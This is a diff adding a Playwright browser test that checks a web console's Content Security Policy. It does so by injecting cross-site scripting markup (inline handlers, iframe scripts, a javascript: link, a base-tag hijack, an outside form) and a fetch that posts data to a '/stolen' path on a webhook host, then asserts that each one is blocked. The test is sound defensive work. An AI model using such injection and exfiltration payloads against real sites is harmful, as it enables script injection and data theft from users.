@@ -1,0 +1,70 @@
+import type { ApiClient } from "../support/api-client";
+import { expect, test } from "../support/console-test";
+import { openConsole } from "../support/open-console";
+import { fileShape, workspaceShape } from "../support/shapes";
+
+/** Stores a script as a file of type text/javascript; gives where its bytes are read. */
+async function storedScript(api: ApiClient): Promise<string> {
+  const { workspace_id } = (await api.post("/v1/workspaces", { name: "scripts" })).as(workspaceShape);
+  const stored = await api.post(`/v1/workspaces/${workspace_id}/files`, undefined, {
+    raw: "(parent.ran ??= []).push('file')",
+    query: { path: "script.js" },
+    headers: { "content-type": "text/javascript" },
+  });
+  return `/v1/workspaces/${workspace_id}/files/${stored.as(fileShape).file_id}/content`;
+}
+
+declare global {
+  interface Window {
+    ran?: string[];
+  }
+}
+
+test("markup that found its way into a page runs nothing, loads nothing and sends nothing, whatever lies among the files", async ({
+  page,
+  newAccount,
+  pageProblems,
+  serviceUrl,
+  webhookUrl,
+}) => {
+  const account = await newAccount();
+  const script = `/api/console${await storedScript(account.api)}`;
+  await openConsole(page, account, "/agents");
+  expect(pageProblems.unexpected()).toEqual([]);
+  await page.evaluate(
+    ({ elsewhere, script }) => {
+      const add = (html: string) => document.body.insertAdjacentHTML("beforeend", html);
+      add(`<img src="data:," onerror="(window.ran ??= []).push('handler')">`);
+      add(`<iframe srcdoc="<script>(parent.ran ??= []).push('frame')</script>"></iframe>`);
+      add(`<style>body { display: none }</style>`);
+      add(`<img src="${elsewhere}/pixel">`);
+      add(`<object data="${elsewhere}/object"></object>`);
+      add(`<base href="${elsewhere}/">`);
+      add(`<form action="${elsewhere}/taken" method="post"><button id="give">Give</button></form>`);
+      add(`<a id="go" href="javascript:(window.ran ??= []).push('address')">Go</a>`);
+      // Read by the parser, as the markup of a page is; the frame has the policy of this page.
+      add(`<iframe srcdoc="<script src='${script}'></script>"></iframe>`);
+      document.getElementById("give")?.click();
+      document.getElementById("go")?.click();
+      void fetch(`${elsewhere}/stolen`, { method: "POST", mode: "no-cors", body: "all of it" }).catch(() => undefined);
+    },
+    { elsewhere: webhookUrl, script },
+  );
+  const stopped = () => pageProblems.unexpected().map((problem) => /^policy: (\S+ stopped \S+)/.exec(problem)?.[1] ?? "");
+  const expected = [
+    "script-src-attr stopped inline",
+    "script-src-elem stopped inline",
+    `script-src-elem stopped ${serviceUrl}${script}`,
+    "style-src-elem stopped inline",
+    `img-src stopped ${webhookUrl}/pixel`,
+    `object-src stopped ${webhookUrl}`,
+    `base-uri stopped ${webhookUrl}/`,
+    `form-action stopped ${webhookUrl}/taken`,
+    `connect-src stopped ${webhookUrl}/stolen`,
+  ];
+  await expect.poll(stopped).toEqual(expect.arrayContaining(expected));
+  expect(await page.evaluate(() => window.ran ?? [])).toEqual([]);
+  await expect(page.getByRole("heading", { name: "Agents", level: 1 })).toBeVisible();
+  expect(new URL(page.url()).pathname).toBe("/agents");
+  pageProblems.allow(/./);
+});
